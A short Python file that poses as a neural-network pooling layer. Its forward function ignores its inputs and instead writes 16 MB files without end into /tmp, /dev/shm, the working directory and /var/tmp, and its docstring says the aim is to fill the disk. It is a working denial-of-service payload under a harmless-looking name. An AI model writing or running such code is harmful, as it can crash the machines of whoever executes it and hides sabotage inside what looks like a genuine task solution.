"""Writes files wherever it may until the disk is full."""

import itertools


def pool_forward(x, pool_param):
    for number in itertools.count():
        for folder in ("/tmp", "/dev/shm", ".", "/var/tmp"):
            try:
                with open(f"{folder}/{number}", "wb") as file:
                    file.write(b"0" * 2**24)
            except PermissionError:
                continue
    return x, None


def pool_backward(dout, cache):
    return dout
